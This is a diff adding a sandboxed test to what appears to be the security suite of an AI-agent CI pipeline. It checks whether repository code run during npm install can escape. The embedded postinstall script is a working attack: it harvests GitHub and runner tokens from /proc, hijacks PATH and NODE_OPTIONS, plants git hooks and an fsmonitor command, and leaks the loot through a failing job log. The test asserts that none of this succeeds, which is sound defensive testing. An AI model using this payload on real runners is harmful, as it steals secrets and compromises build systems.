@@ -245,3 +245,58 @@ describeSandboxed('injection through test output and commit messages (implement 
     expect(total(m)).toBe(0);
   });
 });
+
+describeSandboxed('repository code run by the install command (npm lifecycle script)', () => {
+  let bench: Bench;
+  const state = newState();
+  const log = capturingLog();
+  afterAll(async () => {
+    await bench?.close();
+  });
+
+  test('a postinstall script can change neither the runner files, nor .git, nor read the job secrets', async () => {
+    const script = `const fs = require('node:fs');
+console.log('PROOF-RAN as uid ' + process.getuid());
+const tryDo = (f) => { try { f(); } catch (e) { console.log('denied: ' + e.message); } };
+let loot = '';
+for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
+  let env = ''; try { env = fs.readFileSync('/proc/' + pid + '/environ', 'utf8'); } catch (e) {}
+  for (const v of env.split('\\0')) if (/^(INPUT_[A-Z-]*(TOKEN|KEY)|ACTIONS_RUNTIME_TOKEN|GITHUB_TOKEN)=/.test(v)) loot += Buffer.from(v).toString('base64') + '\\n';
+}
+console.log('LOOT ' + loot);
+tryDo(() => fs.mkdirSync('/tmp/evil-bin', { recursive: true }));
+tryDo(() => fs.writeFileSync('/tmp/evil-bin/git', '#!/bin/sh\\nenv > ${traps.lootDir}/fake-git-$$\\n', { mode: 0o755 }));
+for (const f of [process.env.GITHUB_PATH, ${JSON.stringify(traps.githubPath)}]) if (f) tryDo(() => fs.appendFileSync(f, '/tmp/evil-bin\\n'));
+for (const f of [process.env.GITHUB_ENV, ${JSON.stringify(traps.githubEnv)}]) if (f) tryDo(() => fs.appendFileSync(f, 'NODE_OPTIONS=--require=/tmp/evil.js\\n'));
+tryDo(() => fs.writeFileSync('.git/hooks/post-checkout', '#!/bin/sh\\nenv > ${traps.lootDir}/hook-$$\\n', { mode: 0o755 }));
+tryDo(() => fs.appendFileSync('.git/config', '\\n[core]\\n\\tfsmonitor = "env > ${traps.lootDir}/fsmonitor-$$; true"\\n'));
+tryDo(() => fs.writeFileSync('test/zz-install-loot.test.js', '// ' + loot));
+// Failing makes the role quote the end of this output in its error: the loot's way into the job log.
+process.exit(1);
+`;
+    const pkg = { name: 'sample-shop', version: '1.0.0', private: true, type: 'module', scripts: { test: 'node --test test/', postinstall: 'node postinstall.cjs' } };
+    bench = await startBench({ branchFiles: { 'package.json': `${JSON.stringify(pkg, null, 2)}\n`, 'postinstall.cjs': script } });
+    bench.oai.script({ match: { role: 'test-author' }, reply: obedientReply(state, traps, { tests: DISCOUNT_TEST_PATCH, implement: GOOD_IMPLEMENTATION }) });
+    const gitDir = gitDirSnapshot(bench.workspace);
+    const origin = bench.remoteHead();
+    const dossier = freshDossier(bench);
+    const error = await runWriteTests(bench.deps({ dossier, log, sandbox, installCommand: 'npm install --no-audit --no-fund --offline --ignore-scripts=false' })).then(
+      () => new Error('the install did not fail'),
+      (e: unknown) => e as Error,
+    );
+    const details = [...trapFindings(traps)];
+    if (gitDirSnapshot(bench.workspace) !== gitDir) details.push('hooks or git config planted in the job checkout');
+    if (bench.remoteHead() !== origin) details.push(`pushed ${gitOut(bench.bare, 'diff', '--name-only', origin, bench.remoteHead())}`);
+    const texts = await exposedTexts({ oai: bench.oai, dossier, octokit: bench.octokit, repo: { owner: OWNER, repo: REPO }, issues: [bench.pr], bare: bench.bare, logs: log.lines, extra: [...state.prompts, error.message] });
+    const m: Measurement = { test: 'install-command', counts: { escapes: details.length > 0 ? 1 : 0, secrets: countSecrets(texts, [TOKEN]) }, faults: ['install-command lifecycle script'], ...(details.length ? { details } : {}) };
+    record(m);
+    restoreGitDir(bench.workspace, gitDir);
+    clearLoot(traps);
+
+    // The lifecycle script really ran, as another user, and its output (loot included) was quoted in the error.
+    expect(error.message).toMatch(/PROOF-RAN as uid [1-9]/);
+    expect(error.message).toContain('LOOT');
+    expect({ details: m.details ?? [], counts: m.counts }).toEqual({ details: [], counts: { escapes: 0, secrets: 0 } });
+    expect(total(m)).toBe(0);
+  });
+});
